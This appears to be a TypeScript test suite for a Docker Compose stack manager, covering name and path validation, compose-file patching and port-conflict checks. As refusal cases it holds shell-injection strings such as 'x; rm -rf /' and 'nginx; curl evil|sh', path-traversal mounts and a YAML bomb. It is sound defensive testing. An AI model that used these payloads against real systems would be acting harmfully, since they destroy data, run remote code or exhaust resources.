import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { portsCollector } from '../../domain/collectors/ports.ts';
import {
  composeCommand,
  locationFromLabels,
  newStackLocation,
  StackFileError,
} from '../../domain/compose/stack-commands.ts';
import {
  applyStackPatch,
  imageRepository,
  portConflicts,
  readStackFile,
  requestedHostPorts,
} from '../../domain/compose/stack-file.ts';
import { StackDeployRequest, StackUpdateRequest } from '../../schema/stack.ts';
import { fixtureReader } from '../support/collector-fixtures.ts';

const refused = (run: () => unknown, code: string, message: RegExp) =>
  assert.throws(run, (err: unknown) => {
    assert.ok(err instanceof StackFileError, `expected StackFileError, got ${String(err)}`);
    assert.equal(err.code, code);
    assert.match(err.message, message);
    return true;
  });

const WHOAMI = `# the whoami stack
services:
  web:
    image: traefik/whoami:v1.10   # pinned on purpose
    ports:
      - "8080:80"
    environment:
      WHOAMI_NAME: first
    labels:
      app: whoami
`;

describe('stack names and paths', () => {
  it('refuses a stack name that is a shell command, and one with a path in it', () => {
    refused(() => newStackLocation('/opt/stacks', 'x; rm -rf /'), 'unsafe_name', /stack name/);
    refused(() => newStackLocation('/opt/stacks', '$(reboot)'), 'unsafe_name', /stack name/);
    refused(() => newStackLocation('/opt/stacks', '../etc'), 'unsafe_name', /stack name/);
    assert.equal(StackDeployRequest.safeParse({ name: '`id`', compose: WHOAMI }).success, false);
  });

  it('refuses a stacks directory or a labelled working dir with ..', () => {
    refused(() => newStackLocation('/opt/../etc', 'web'), 'unsafe_path', /without \.\./);
    refused(
      () =>
        locationFromLabels('web', {
          'com.docker.compose.project.working_dir': '/srv/../../etc',
          'com.docker.compose.project.config_files': '/srv/compose.yaml',
        }),
      'unsafe_path',
      /stack directory/,
    );
    refused(
      () =>
        locationFromLabels('web', {
          'com.docker.compose.project.working_dir': '/srv/web',
          'com.docker.compose.project.config_files': '/srv/web/$(id).yaml',
        }),
      'unsafe_path',
      /compose file/,
    );
  });

  it("leaves the temporary pin override of a revert out of the stack's files", () => {
    const labels = {
      'com.docker.compose.project.working_dir': '/srv/web',
      'com.docker.compose.project.config_files': '/srv/web/compose.yaml,/srv/web/.infra-pinned-images.yaml',
    };
    assert.deepEqual(locationFromLabels('web', labels), {
      project: 'web',
      dir: '/srv/web',
      files: ['/srv/web/compose.yaml'],
    });
  });

  it('puts the default stack at <dir>/<name>/compose.yaml and quotes every word of a compose command', () => {
    const location = newStackLocation('/opt/stacks/', 'web');
    assert.deepEqual(location, { project: 'web', dir: '/opt/stacks/web', files: ['/opt/stacks/web/compose.yaml'] });
    assert.equal(
      composeCommand(location, ['logs', '--tail', '50', "it's"]),
      "cd '/opt/stacks/web' && docker compose -p 'web' -f '/opt/stacks/web/compose.yaml' 'logs' '--tail' '50' 'it'\\''s'",
    );
  });
});

describe('readStackFile', () => {
  it('reads services, images and published ports', () => {
    const { config } = readStackFile(WHOAMI);
    assert.deepEqual(
      config.services.map((s) => [s.name, s.image]),
      [['web', 'traefik/whoami:v1.10']],
    );
    assert.deepEqual(requestedHostPorts(config), [{ service: 'web', host_ip: null, port: 8080, protocol: 'tcp' }]);
  });

  it('refuses a YAML bomb before expanding it', () => {
    const bomb = [
      'x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      'x-b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'x-c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'x-d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'x-e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
      'services:',
      '  web:',
      '    image: nginx',
      '    command: *e',
    ].join('\n');
    refused(() => readStackFile(bomb), 'yaml_bomb', /YAML bomb/);
  });

  it('refuses service names, container names and images that are shell commands, and bind mounts with ..', () => {
    refused(() => readStackFile('services:\n  "a;reboot":\n    image: nginx\n'), 'unsafe_name', /service "a;reboot"/);
    refused(
      () => readStackFile('services:\n  web:\n    image: nginx\n    container_name: "$(id)"\n'),
      'unsafe_name',
      /container_name/,
    );
    refused(() => readStackFile('services:\n  web:\n    image: "nginx; curl evil|sh"\n'), 'unsafe_name', /image/);
    refused(
      () => readStackFile('services:\n  web:\n    image: nginx\n    volumes:\n      - ../../etc:/host-etc\n'),
      'unsafe_path',
      /leaves the stack directory/,
    );
    refused(() => readStackFile('name: x\n'), 'invalid_compose', /services/);
  });
});

describe('applyStackPatch', () => {
  it('retags an image and keeps comments and layout', () => {
    const next = applyStackPatch(WHOAMI, { services: { web: { tag: 'v1.11' } } });
    assert.match(next, /image: traefik\/whoami:v1\.11 # pinned on purpose/);
    assert.match(next, /^# the whoami stack/);
    const flow = applyStackPatch(
      'services:\n  web:\n    image: nginx:1\n    command: ["nginx", "-g", "daemon off;"]\n',
      { services: { web: { tag: '2' } } },
    );
    assert.equal(flow, 'services:\n  web:\n    image: nginx:2\n    command: ["nginx", "-g", "daemon off;"]\n');
  });

  it('writes new ports quoted', () => {
    assert.match(
      applyStackPatch(WHOAMI, { services: { web: { ports: ['22:22', '127.0.0.1:53:53/udp'] } } }),
      /ports:\n      - "22:22"\n      - "127\.0\.0\.1:53:53\/udp"\n/,
    );
  });

  it('sets and removes environment entries and labels, in map and list form', () => {
    const next = applyStackPatch(WHOAMI, {
      services: { web: { environment: { WHOAMI_NAME: null, PORT: '80 # not a comment' }, labels: { tier: 'front' } } },
    });
    const web = readStackFile(next).config.services[0]!;
    assert.deepEqual(web.environment_keys, ['PORT']);
    assert.deepEqual(web.labels, { app: 'whoami', tier: 'front' });
    assert.match(next, /PORT: 80 # not a comment|PORT: "80 # not a comment"/);
    const listForm = applyStackPatch(
      'services:\n  web:\n    image: nginx\n    environment:\n      - A=1\n      - B=2\n',
      { services: { web: { environment: { A: null, C: 'x y' } } } },
    );
    assert.deepEqual(readStackFile(listForm).config.services[0]!.environment_keys, ['B', 'C']);
  });

  it('refuses what must not be written: unknown service, bad tag, bad port, .. volume, odd env name', () => {
    refused(() => applyStackPatch(WHOAMI, { services: { db: { tag: '1' } } }), 'invalid_patch', /no service "db"/);
    refused(
      () => applyStackPatch(WHOAMI, { services: { web: { tag: 'v1;reboot' } } }),
      'unsafe_name',
      /not a docker tag/,
    );
    refused(() => applyStackPatch(WHOAMI, { services: { web: { ports: ['8080:80; id'] } } }), 'invalid_patch', /port/);
    refused(
      () => applyStackPatch(WHOAMI, { services: { web: { volumes: ['../../../:/data'] } } }),
      'unsafe_path',
      /\.\./,
    );
    refused(
      () => applyStackPatch(WHOAMI, { services: { web: { environment: { 'A=B': 'x' } } } }),
      'invalid_patch',
      /environment variable name/,
    );
    assert.equal(StackUpdateRequest.safeParse({}).success, false);
    assert.equal(StackUpdateRequest.safeParse({ compose: WHOAMI, patch: { services: {} } }).success, false);
  });

  it('knows the repository of a reference with registry port, tag and digest', () => {
    assert.equal(imageRepository('registry:5000/app:1.2'), 'registry:5000/app');
    assert.equal(imageRepository(`nginx@sha256:${'a'.repeat(64)}`), 'nginx');
    assert.equal(imageRepository('ghcr.io/immich-app/immich-server'), 'ghcr.io/immich-app/immich-server');
  });
});

describe('portConflicts against a real ss capture', () => {
  const ports = portsCollector.parse(
    { stdout: fixtureReader('ports')('root-debian.txt'), stderr: '', exitCode: 0 },
    {},
  );

  it('finds a taken port on any address, names its holder, and leaves free ports alone', () => {
    const { config } = readStackFile(
      'services:\n  web:\n    image: nginx\n    ports:\n      - "18081:80"\n      - "18090:80"\n      - "127.0.0.2:15353:53/udp"\n',
    );
    const conflicts = portConflicts(requestedHostPorts(config), ports, new Set());
    assert.deepEqual(
      conflicts.map((c) => [c.port, c.protocol, c.held_by]),
      [
        [18081, 'tcp', 'process python3 (pid 13154) on 127.0.0.1'],
        [15353, 'udp', 'process python3 (pid 13155) on *'],
      ],
    );
  });

  it('does not count a specific other address as taken, nor a port published by the stack itself', () => {
    const { config } = readStackFile('services:\n  web:\n    image: nginx\n    ports:\n      - "127.0.0.2:18081:80"\n');
    assert.deepEqual(portConflicts(requestedHostPorts(config), ports, new Set()), []);
    const own = { ...ports, ports: ports.ports.map((p) => (p.port === 18081 ? { ...p, container: 'web-web-1' } : p)) };
    const { config: all } = readStackFile('services:\n  web:\n    image: nginx\n    ports:\n      - "18081:80"\n');
    assert.deepEqual(portConflicts(requestedHostPorts(all), own, new Set(['web-web-1'])), []);
  });
});
